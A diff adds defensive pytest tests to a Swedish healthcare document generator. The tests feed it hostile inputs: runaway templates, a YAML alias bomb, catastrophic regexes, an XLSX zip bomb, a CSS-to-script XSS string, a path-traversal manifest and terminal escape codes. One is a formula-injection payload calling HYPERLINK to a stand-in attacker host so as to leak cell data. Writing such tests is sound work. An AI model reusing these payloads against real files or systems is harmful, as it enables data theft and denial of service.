@@ -10,6 +10,7 @@ from __future__ import annotations
 
 import datetime as dt
 import io
+import shutil
 from collections.abc import Iterator
 from pathlib import Path
 from typing import Any
@@ -438,3 +439,345 @@ def test_files_are_written_with_the_users_umask(umask: int, mode: int, tmp_path:
         output_module.file_mode.cache_clear()
     files = list((out / "FU-2026-014").iterdir())
     assert files and {stat.S_IMODE(p.stat().st_mode) for p in files} == {mode}
+
+
+# --- bounded work: templates ------------------------------------------------------------------
+
+LIMITED = [
+    ("{{ 'x' * 10**9 }}", "ett värde blev längre än 5\u00a0000\u00a0000 tecken eller poster"),
+    ("{% for i in range(10**9) %}x{% endfor %}", "range() får ge högst 100 000 tal"),
+    ("{{ 'x' | center(10**9) }}", "bredden i center är 1000000000; högst 10\u00a0000"),
+    ("{{ 'x'.ljust(10**9) }}", "argumentet till ljust() är 1000000000; högst 10\u00a0000"),
+    ("{{ '%*d' | format(10**9, 1) }}", "en bredd eller precision i formatsträngen är större än 10\u00a0000 eller tas från ett värde"),
+    ("{{ '{:>1000000000}'.format(1) }}", "en bredd i formatsträngen är större än 10\u00a0000 eller tas från ett värde"),
+    ("{% set ns = namespace(s='x') %}{% for i in range(100) %}{% set ns.s = ns.s ~ ns.s %}{% endfor %}", "ett värde blev längre än 5\u00a0000\u00a0000 tecken eller poster"),
+    ("{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}", "den arbetade längre än 0,5 sekunder (en loop som aldrig tar slut, eller för mycket arbete)"),
+    ("{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}", None),
+]
+
+
+@pytest.mark.parametrize(("body", "expected"), LIMITED)
+def test_a_template_that_works_without_end_is_stopped(body: str, expected: str | None, tmp_path: Path, output: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    from generator import sandbox
+
+    monkeypatch.setattr(sandbox, "TEMPLATE_SECONDS", 0.5)
+    templates = user_templates(tmp_path, f"# Kallelse\n\n{body}\n")
+    before = snapshot(output)
+    result = invoke("render", case_file(tmp_path), "--mallar", templates, "-o", output, "-f", "md")
+    assert result.exit_code == 1
+    (message,) = messages(result)
+    source = templates / DOCUMENT / "dokument.md"
+    if expected is None:
+        assert message == f"Fel: {source}:11: mallfel: mallen är för djupt nästlad eller anropar sig själv utan slut (oändlig rekursion)"
+    else:
+        assert message.startswith(f"Fel: {source}:") and message.endswith(f": mallfel: mallen stoppades: {expected}"), message
+    assert snapshot(output) == before
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["arende.yaml", "egna-mallar", "giltig.yaml", "tidigare"]
+
+
+def test_a_legal_but_huge_case_is_refused_before_it_is_laid_out(tmp_path: Path, output: Path) -> None:
+    """1 000 deviations with long descriptions: 2 MB of valid YAML, a call-in of 500 pages."""
+    def huge(data: dict[str, Any]) -> None:
+        first = data["avvikelser"][0]
+        data["avvikelser"] = [{**first, "id": f"A{n}", "beskrivning": "Brister i journalföringen under perioden. " * 35} for n in range(1, 1001)]
+        data["eskalering"] = []
+
+    path = case_file(tmp_path, change=huge)
+    assert path.stat().st_size > 1_500_000
+    before = snapshot(output)
+    result = invoke("render", path, "-d", DOCUMENT, "-o", output)
+    assert result.exit_code == 1
+    (message,) = messages(result)
+    assert message.startswith(f"{path}:") and "kallelse_dialogmote: dokumentet 'kallelse-dialogmote' blir" in message
+    assert message.endswith("tecken långt (högst 600\u00a0000, ungefär 200 sidor); korta fritexterna eller dela upp uppgifterna")
+    assert snapshot(output) == before
+
+
+# --- no traceback from any input: the organisation profile -----------------------------------
+
+PROFILE_ATTACKS = {
+    "tomt orgnr": (lambda t: __import__("re").sub(r"(?m)^orgnr:.*$", "orgnr:", t), "orgnr: saknar värde; fyll i det eller ta bort raden"),
+    "nämnd utan id": (lambda t: t.replace("  - id: hsn\n", "  - \n", 1), "namnder[0].id: fältet saknas men krävs"),
+    "trasigt mönster": (lambda t: __import__("re").sub(r"(?m)^diarienummer_monster:.*$", "diarienummer_monster: '['", t),
+                        "diarienummer_monster: ogiltigt reguljärt uttryck (unterminated character set at position 0)"),
+    "katastrofalt mönster": (lambda t: __import__("re").sub(r"(?m)^diarienummer_monster:.*$", "diarienummer_monster: '^(a+)+$'", t),
+                             "diarienummer_monster: mönstret har en upprepning inuti en upprepning"),
+    "sekretess som lista": (lambda t: __import__("re").sub(r"(?m)^sekretess:.*$", "sekretess: [a, b]\nx_sekretess:", t),
+                            "sekretess: ska vara en grupp av fält (nyckel: värde)"),
+    "nämnder som text": (lambda t: t.replace("namnder:", "namnder: hsn\nx_namnder:", 1), "namnder: ska vara en lista (rader som börjar med '-')"),
+}
+
+
+@pytest.mark.parametrize("name", sorted(PROFILE_ATTACKS))
+@pytest.mark.parametrize("command", ["validate", "render", "report"])
+def test_a_broken_profile_is_named_with_its_line(name: str, command: str, tmp_path: Path, output: Path) -> None:
+    change, expected = PROFILE_ATTACKS[name]
+    profile = tmp_path / "profil.yaml"
+    profile.write_text(change((EXAMPLES / "organisation.yaml").read_text(encoding="utf-8")), encoding="utf-8")
+    path = case_file(tmp_path, change=lambda d: d["arende"].update(diarienummer="aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!"))
+    before = snapshot(output)
+    if command == "report":
+        result = invoke("report", "--year", "2026", RAPPORT, "--organisation", profile, "-o", output)
+    else:
+        result = invoke(command, path, "--organisation", profile, *(["-o", output] if command == "render" else []))
+    assert result.exit_code == 1
+    assert any(m.startswith(f"{profile}:") and expected in m for m in messages(result)), result.stderr
+    assert snapshot(output) == before
+
+
+# --- no traceback from any input: template folders --------------------------------------------
+
+SOURCE = (ROOT / "mallar" / DOCUMENT / "dokument.md").read_text(encoding="utf-8")
+SCHEMA = (ROOT / "schema" / f"{DOCUMENT}.yaml").read_text(encoding="utf-8")
+BOMB = "".join(f"{c}: &{c} [{', '.join(['*' + p] * 10 if p else ['x'] * 10)}]\n" for p, c in zip(" abcdefg", "abcdefgh", strict=True)).replace("[*  ", "[")
+FOLDER_ATTACKS: dict[str, tuple[dict[str, str | bytes], str, str]] = {
+    "omöjligt datum": ({f"{DOCUMENT}/dokument.md": SOURCE.replace("giltig_fran: 2026-01-01", "giltig_fran: 2026-02-30")},
+                       f"{DOCUMENT}/dokument.md:7", "giltig_fran: datumet 2026-02-30 finns inte"),
+    "målgrupp som lista": ({f"{DOCUMENT}/dokument.md": SOURCE.replace("malgrupp: extern", "malgrupp: [extern]")},
+                           f"{DOCUMENT}/dokument.md:5", "malgrupp ska vara en text, t.ex. malgrupp: extern"),
+    "okänd regel": ({f"{DOCUMENT}.yaml": SCHEMA.replace("type: dict", "type: dict\nkrav_pa: 1", 1)}, f"{DOCUMENT}.yaml", "okänd regel 'krav_pa'"),
+    "trasigt mönster": ({f"{DOCUMENT}.yaml": "type: dict\nschema:\n  ovrigt: {type: string, regex: '('}\n"}, f"{DOCUMENT}.yaml",
+                        "ovrigt: regex: ogiltigt reguljärt uttryck"),
+    "katastrofalt mönster": ({f"{DOCUMENT}.yaml": "type: dict\nschema:\n  ovrigt: {type: string, regex: '^(\\w+\\s?)*$'}\n"}, f"{DOCUMENT}.yaml",
+                             "ovrigt: regex: mönstret har en upprepning inuti en upprepning"),
+    "aliasbomb": ({f"{DOCUMENT}.yaml": "a: &a [x, x, x, x, x, x, x, x, x, x]\n" + "".join(f"{c}: &{c} [{', '.join(['*' + p] * 10)}]\n" for p, c in zip("abcdef", "bcdefg", strict=True))},
+                  f"{DOCUMENT}.yaml:", "för många värden (mer än 200000)"),
+    "inte UTF-8": ({f"{DOCUMENT}.yaml": "type: dict\nschema:\n  x: {type: string, meta: {beskrivning: 'v\xe5rd'}}\n".encode("latin-1")},
+                   f"{DOCUMENT}.yaml:3", "filen är inte UTF-8"),
+    "inkludera som tal": ({f"{DOCUMENT}.yaml": "type: dict\ninkludera: 5\n"}, f"{DOCUMENT}.yaml", "inkludera ska vara ett namn eller en lista"),
+    "base.docx som inte är zip": ({"_layout/base.docx": b"PK nej"}, "_layout/base.docx", "Word-mallen kan inte läsas: den är ingen giltig DOCX-fil"),
+    "stilmall som inte är UTF-8": ({"_layout/stil.css": "p::before { content: '\xe5' }".encode("latin-1")}, "_layout/stil.css:1",
+                                   "stilmallen är inte sparad som UTF-8"),
+}
+
+
+@pytest.mark.parametrize("name", sorted(FOLDER_ATTACKS))
+def test_a_broken_template_folder_is_named_with_its_line(name: str, tmp_path: Path, output: Path) -> None:
+    files, where, expected = FOLDER_ATTACKS[name]
+    templates = tmp_path / "egna"
+    for relative, content in files.items():
+        target = templates / relative
+        target.parent.mkdir(parents=True, exist_ok=True)
+        target.write_bytes(content if isinstance(content, bytes) else content.encode("utf-8"))
+    before = snapshot(output)
+    for command in (["render", case_file(tmp_path), "--mallar", templates, "-o", output], ["check", "--mallar", templates]):
+        result = invoke(*command)
+        assert result.exit_code == 1, (command[0], result.output)
+        assert any(str(templates / where) in m and expected in m for m in messages(result)), (command[0], result.stderr)
+    assert snapshot(output) == before
+
+
+def test_a_style_sheet_cannot_close_the_style_element(tmp_path: Path) -> None:
+    templates = user_templates(tmp_path, SOURCE.split("---\n", 2)[2], css="p::after { content: '</style><script>alert(1)</script>'; }\n")
+    out = tmp_path / "ut"
+    assert invoke("render", case_file(tmp_path), "--mallar", templates, "-o", out, "-f", "html").exit_code == 0
+    page = (out / "FU-2026-014" / f"{DOCUMENT}.html").read_text(encoding="utf-8")
+    assert "<script" not in page.lower() and page.lower().count("</style") == 1
+    assert "\\3c /style>\\3c script>" in page  # the CSS escape: the same text in the stylesheet's string
+
+
+# --- no traceback from any input: case files, folders, manifest --------------------------------
+
+def test_a_symbolic_link_loop_as_input_or_output_is_a_message(tmp_path: Path) -> None:
+    loop = tmp_path / "slinga.yaml"
+    loop.symlink_to(loop)
+    result = invoke("render", loop, "-o", tmp_path / "ut")
+    assert result.exit_code == 1
+    assert messages(result) == [f"{loop}: filen kan inte läsas (för många symboliska länkar)."]
+    out = tmp_path / "utslinga"
+    out.symlink_to(out)
+    result = invoke("render", case_file(tmp_path), "-o", out, "-f", "md")
+    assert result.exit_code == 1
+    assert messages(result) == [f"Fel: {out}: mappen för dokumenten kan inte användas (en symbolisk länk pekar på sig själv, eller sökvägen är för lång). Välj en annan med -o."]
+
+
+def test_an_over_long_path_is_a_message(tmp_path: Path) -> None:
+    path = tmp_path / ("x" * 300 + ".yaml")
+    result = invoke("validate", path)
+    assert result.exit_code == 1
+    assert messages(result) == [f"{path}: filen kan inte läsas (namnet är för långt)."]
+
+
+def test_an_empty_diarienummer_is_a_message(tmp_path: Path) -> None:
+    path = case_file(tmp_path)
+    path.write_text(path.read_text(encoding="utf-8").replace("diarienummer: HSN 2026-00123", "diarienummer:", 1), encoding="utf-8")
+    line = next(n for n, row in enumerate(path.read_text(encoding="utf-8").splitlines(), 1) if row.strip() == "diarienummer:")
+    result = invoke("render", path, "-o", tmp_path / "ut")
+    assert result.exit_code == 1
+    assert messages(result) == [f"{path}:{line}: arende.diarienummer: saknar värde; fyll i det eller ta bort raden"]
+    assert not (tmp_path / "ut").exists()
+
+
+@pytest.mark.parametrize("manifest", ["[" * 100_000 + "]" * 100_000, '{"filer": [1, 2], "dokument": "x"}', "\udcff not json",
+                                      '{"filer": {"../../../etc/passwd": "' + "0" * 64 + '", "kallelse-dialogmote.md": 5, ".dold": "' + "0" * 64 + '"}, "dokument": {"x": 7}}'])
+def test_a_hostile_manifest_is_replaced_by_a_true_one(manifest: str, tmp_path: Path) -> None:
+    import hashlib
+    import json
+
+    folder = tmp_path / "ut" / "FU-2026-014"
+    folder.mkdir(parents=True)
+    (folder / "manifest.json").write_text(manifest, encoding="utf-8", errors="surrogateescape")
+    result = invoke("render", case_file(tmp_path), "-o", tmp_path / "ut", "-f", "md")
+    assert result.exit_code == 0, result.output
+    written = json.loads((folder / "manifest.json").read_text(encoding="utf-8"))
+    assert written["filer"] == {f"{DOCUMENT}.md": hashlib.sha256((folder / f"{DOCUMENT}.md").read_bytes()).hexdigest()}
+    assert set(written["dokument"]) == {DOCUMENT}
+    assert sorted(p.name for p in folder.iterdir()) == [f"{DOCUMENT}.md", "manifest.json"]
+
+
+@pytest.mark.parametrize(("path", "value", "line_text"), [
+    (("arende", "id"), "FU-1\n", "id:"), (("vardgivare", "adress", "postnummer"), "123 45\n", "postnummer:"),
+    (("vardgivare", "kontaktperson", "epost"), "a@b.se\nx", "epost:"),
+])
+def test_every_pattern_matches_the_whole_value(path: tuple[str, ...], value: str, line_text: str, tmp_path: Path) -> None:
+    def change(data: dict[str, Any]) -> None:
+        target = data
+        for key in path[:-1]:
+            target = target.setdefault(key, {"namn": "Kontakt"} if key == "kontaktperson" else {})
+        target[path[-1]] = value
+
+    file = case_file(tmp_path, change=change)
+    result = invoke("validate", file)
+    assert result.exit_code == 1
+    assert any(f"{'.'.join(path)}: " in m and "har fel form" in m for m in messages(result)), result.stderr
+
+
+def test_control_characters_in_keys_and_file_names_never_reach_the_terminal(tmp_path: Path) -> None:
+    path = case_file(tmp_path)
+    path.write_text(path.read_text(encoding="utf-8").replace("  rubrik:", '  "\\e[2J\\e[31mrubrik":', 1), encoding="utf-8")
+    result = invoke("validate", path)
+    assert result.exit_code == 1 and "\x1b" not in result.output
+    assert "otillåtet tecken (U+001B) i fältnamnet" in result.stderr
+    named = tmp_path / "ärende\x1b[2J\u202e.yaml"
+    result = invoke("validate", named)
+    assert result.exit_code == 1 and "\x1b" not in result.output and "\u202e" not in result.output
+    assert messages(result) == [f"{tmp_path}/ärende\\x1b[2J\\u202e.yaml: filen finns inte. Kontrollera sökvägen, eller skapa en ny med 'mallgen new'."]
+
+
+@pytest.mark.fallback
+def test_an_unforeseen_error_is_one_swedish_line_naming_the_input(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    def boom(*args: Any, **kwargs: Any) -> Any:
+        raise KeyError("oförutsett")
+
+    monkeypatch.setattr("generator.pipeline.check", boom)
+    path = case_file(tmp_path)
+    result = invoke("validate", path)
+    assert result.exit_code == 1
+    assert messages(result) == [f"Fel: oväntat fel när {path} behandlades (KeyError: 'oförutsett'). Kontrollera filen; kör kommandot igen "
+                                "med --debug och skicka utskriften till den som förvaltar mallgen om felet består."]
+    from generator.cli import _DEBUG
+
+    monkeypatch.setitem(_DEBUG, "on", False)
+    from generator.cli import main
+
+    result = CliRunner().invoke(main, ["validate", str(path), "--debug"], catch_exceptions=False)
+    assert result.exit_code == 1
+    assert "Traceback (most recent call last)" in result.stderr and "KeyError: 'oförutsett'" in result.stderr
+
+
+# --- tables of the annual report ----------------------------------------------------------------
+
+def _report_folder(tmp_path: Path, name: str, content: bytes) -> Path:
+    folder = tmp_path / "rapport"
+    shutil.copytree(RAPPORT, folder)
+    shutil.copy(EXAMPLES / "organisation.yaml", tmp_path / "organisation.yaml")
+    (folder / name).write_bytes(content)
+    return folder
+
+
+HEADER = "vardgivare;period;indikator;varde\n"
+TABLE_ATTACKS: dict[str, tuple[str, Any, str]] = {
+    "cell över csv-modulens gräns": ("x.csv", (HEADER + "A;2026;X;" + "1" * 200_000 + "\n").encode(), "x.csv:2: en cell är för lång"),
+    "UTF-8 och Latin-1 blandat": ("x.csv", (HEADER + "Vårdcentral Å;2026;X;1\n").encode() + "Vårdcentral Ö;2025;X;2\n".encode("latin-1"),
+                                  "x.csv:3: filen blandar teckenkodningar: rad 2 är UTF-8 men rad 3 är det inte"),
+    "nan": ("x.csv", (HEADER + "A;2026;X;nan\n").encode(), "x.csv:2: varde: 'nan' är inget tal"),
+    "inf": ("x.csv", (HEADER + "A;2026;X;-inf\n").encode(), "x.csv:2: varde: '-inf' är inget tal"),
+    "orimligt värde": ("x.csv", (HEADER + "A;2026;X;1e300\n").encode(), "x.csv:2: varde: '1e300' är inget tal"),
+    "period på två sätt": ("x.csv", (HEADER + "A;2026-1;X;1\nA;2026-01;X;2\n").encode(), "x.csv:3: period: perioden '2026-01' står som '2026-1'"),
+    "för många rader": ("x.csv", (HEADER + "A;2026;X;1\n" * 100_001).encode(), "x.csv:100001: tabellen har fler än 100\u00a0000 rader"),
+}
+
+
+@pytest.mark.parametrize("name", sorted(TABLE_ATTACKS))
+def test_a_broken_table_is_named_with_its_line(name: str, tmp_path: Path) -> None:
+    file, content, expected = TABLE_ATTACKS[name]
+    folder = _report_folder(tmp_path, file, content)
+    out = tmp_path / "ut"
+    result = invoke("report", "--year", "2026", folder, "-o", out)
+    assert result.exit_code == 1
+    assert any(m.startswith(str(folder / expected.split(":", 1)[0])) and expected.split(":", 1)[1].strip() in m for m in messages(result)), result.stderr
+    assert not out.exists()
+
+
+def _xlsx(rows: list[list[Any]]) -> bytes:
+    import openpyxl
+
+    workbook = openpyxl.Workbook()
+    for row in rows:
+        workbook.active.append(row)
+    buffer = io.BytesIO()
+    workbook.save(buffer)
+    return buffer.getvalue()
+
+
+def test_a_truncated_or_exploding_xlsx_is_a_message(tmp_path: Path) -> None:
+    import zipfile
+
+    good = _xlsx([["vardgivare", "period", "indikator", "varde"], ["A", "2026", "X", 1]])
+    bomb = io.BytesIO()
+    with zipfile.ZipFile(io.BytesIO(good)) as source, zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as target:
+        for info in source.infolist():
+            data = source.read(info.filename)
+            if info.filename == "xl/worksheets/sheet1.xml":  # 300 MB of one repeated cell: a few hundred kB packed
+                data = data.replace(b"</sheetData>", b"<!--" + b"x" * 300_000_000 + b"--></sheetData>")
+            target.writestr(info.filename, data)
+    for name, content, expected in (("trasig.xlsx", good[: len(good) // 2], "filen kan inte läsas som XLSX (BadZipFile). Spara den på nytt i Excel."),
+                                    ("bomb.xlsx", bomb.getvalue(), "filen packas upp till 286 MB eller är onormalt hårt packad")):
+        shutil.rmtree(tmp_path / "rapport", ignore_errors=True)
+        folder = _report_folder(tmp_path, name, content)
+        result = invoke("report", "--year", "2026", folder, "--kontrollera")
+        assert result.exit_code == 1
+        assert any(m.startswith(f"{folder / name}: {expected}") for m in messages(result)), result.stderr
+
+
+def test_repeated_messages_are_capped(tmp_path: Path) -> None:
+    from generator.cli import MAX_MESSAGES_PER_FILE
+
+    folder = _report_folder(tmp_path, "x.csv", (HEADER + "".join(f"A;{2026 - n};X;fel\n" for n in range(500))).encode())
+    result = invoke("report", "--year", "2026", folder, "--kontrollera")
+    assert result.exit_code == 1
+    lines = [m for m in messages(result) if m.startswith(str(folder / "x.csv"))]
+    assert len(lines) == MAX_MESSAGES_PER_FILE + 1
+    assert lines[-1] == f"{folder / 'x.csv'}: … och {500 - MAX_MESSAGES_PER_FILE} fel och varningar till i samma fil (de första {MAX_MESSAGES_PER_FILE} visas)."
+
+
+def test_exports_write_formulas_as_text(tmp_path: Path) -> None:
+    import openpyxl
+
+    hostile = '=HYPERLINK("https://angripare.example/?d="&A1;"Klicka")'
+    folder = _report_folder(tmp_path, "x.csv", (HEADER + f"{hostile.replace(';', ',')};2026;@SUM(1);5\n+46 Vård;2026;@SUM(1);-3\n").encode())
+    out = tmp_path / "ut"
+    assert invoke("report", "--year", "2026", folder, "-o", out, "-f", "md").exit_code == 0
+    csv_text = (out / "rapport-2026" / "samlad-aterrapportering-nyckeltal.csv").read_text(encoding="utf-8-sig")
+    assert "'@SUM(1)" in csv_text and "'+46 Vård" in csv_text and ";-3" in csv_text
+    assert not any(cell.startswith(("=", "+", "@")) for line in csv_text.splitlines() for cell in line.split(";"))
+    workbook = openpyxl.load_workbook(out / "rapport-2026" / "samlad-aterrapportering.xlsx")
+    cells = [c for sheet in workbook.worksheets for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
+    assert [c.value for c in cells if c.value.startswith(("=", "+", "@"))] and all(c.data_type == "s" and c.quotePrefix for c in cells if c.value.startswith(("=", "+", "@")))
+
+
+def test_the_report_never_reads_its_own_exports_back(tmp_path: Path) -> None:
+    out = tmp_path / "ut"
+    first = invoke("report", "--year", "2026", RAPPORT, "-o", out, "-f", "md")
+    assert first.exit_code == 0
+    again = invoke("report", "--year", "2026", RAPPORT, out, "-o", out, "-f", "md")
+    assert again.exit_code == 0, again.stderr
+    assert messages(again) == [f"{out / 'rapport-2026'}: varning: mallgens egna utdata (manifest.json finns); läses inte som indata"]
+    assert first.stdout.split(";")[0] == again.stdout.split(";")[0]
+
+
+def test_a_case_id_that_is_the_report_folder_is_refused(tmp_path: Path) -> None:
+    path = case_file(tmp_path, change=lambda d: d["arende"].update(id="rapport-2026"))
+    result = invoke("validate", path)
+    assert result.exit_code == 1
+    assert any("arende.id: ärende-id 'rapport-2026' är namnet på årsrapportens mapp (mallgen report); välj ett annat id" in m for m in messages(result))
